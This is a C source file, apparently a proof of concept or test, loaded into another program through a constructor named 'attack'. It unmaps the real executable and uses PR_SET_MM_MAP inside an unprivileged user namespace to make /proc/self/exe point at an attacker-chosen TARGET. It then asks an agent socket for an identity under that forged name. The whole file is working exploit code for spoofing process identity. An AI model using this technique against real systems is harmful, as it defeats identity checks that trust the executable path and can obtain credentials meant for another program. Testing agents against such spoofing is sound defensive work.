// Loaded into another program, it replaces what /proc/self/exe shows by TARGET, and then asks for an identity.
//
// PR_SET_MM_MAP asks for a capability in the caller's own user namespace, which any user may make. MODE `unshare`: in a
// namespace of this process. MODE `shared`: from a child in a namespace that shares the memory of this process, which itself
// stays where it was.
#include "ask.h"
#include <linux/prctl.h>
#include <sched.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/wait.h>

static struct prctl_mm_map layout;
static int result;

static int replace(void *unused) {
    (void)unused;
    result = prctl(PR_SET_MM, PR_SET_MM_MAP, &layout, sizeof layout, 0) ? errno : 0;
    return 0;
}

static int replace_in_child(void *unused) {
    replace(unused);
    _exit(0);
}

static int slurp(const char *path, char *to, int room) {
    int file = open(path, O_RDONLY | O_CLOEXEC), length = 0, more;
    while ((more = read(file, to + length, room - 1 - length)) > 0) length += more;
    to[length] = 0;
    close(file);
    return length;
}

static char maps[131072], stat_line[4096], stack[65536] __attribute__((aligned(16)));

static void read_layout(void) {
    slurp("/proc/self/stat", stat_line, sizeof stat_line);
    unsigned long long field[64] = {0};
    int number = 3;
    for (char *word = strtok(strrchr(stat_line, ')') + 2, " "); word && number < 64; word = strtok(0, " "))
        field[number++] = strtoull(word, 0, 10);
    layout.start_code = field[26], layout.end_code = field[27], layout.start_stack = field[28];
    layout.start_data = field[45], layout.end_data = field[46];
    layout.start_brk = field[47], layout.brk = (unsigned long)sbrk(0);
    layout.arg_start = field[48], layout.arg_end = field[49], layout.env_start = field[50], layout.env_end = field[51];
}

// The kernel keeps the name of an executable that is still mapped. Its copies of libc's variables go with it: no stdout, no
// environ from here on.
static void unmap(const char *program) {
    slurp("/proc/self/maps", maps, sizeof maps);
    for (char *line = strtok(maps, "\n"); line; line = strtok(0, "\n")) {
        unsigned long from, to;
        char *path = strchr(line, '/');
        if (path && !strcmp(path, program) && sscanf(line, "%lx-%lx", &from, &to) == 2) munmap((void *)from, to - from);
    }
}

__attribute__((constructor)) static void attack(void) {
    char program[512], *target = getenv("TARGET"), *mode = getenv("MODE"), *agent = getenv("SOCKET");
    int length = readlink("/proc/self/exe", program, sizeof program - 1);
    if (!target || !mode || !agent || length < 0) return;
    program[length] = 0;
    if (!strcmp(mode, "unshare") && unshare(CLONE_NEWUSER)) {
        dprintf(1, "impossible: unshare: %s\n", strerror(errno));
        _exit(0);
    }
    layout.exe_fd = open(target, O_RDONLY | O_CLOEXEC);
    read_layout();
    unmap(program);
    if (!strcmp(mode, "unshare")) {
        replace(0);
    } else {
        result = -1;
        int child = clone(replace_in_child, stack + sizeof stack, CLONE_VM | CLONE_NEWUSER | SIGCHLD, 0);
        if (child > 0) waitpid(child, 0, 0);
    }
    length = readlink("/proc/self/exe", program, sizeof program - 1);
    program[length < 0 ? 0 : length] = 0;
    if (result) dprintf(1, "impossible: PR_SET_MM_MAP: %d\n", result);
    else dprintf(1, "forged %s\n", program);
    int s = open_socket(SOCK_CLOEXEC, 2);
    if (!dial(s, agent)) send_question(s), read_answer(s);
    _exit(0);
}
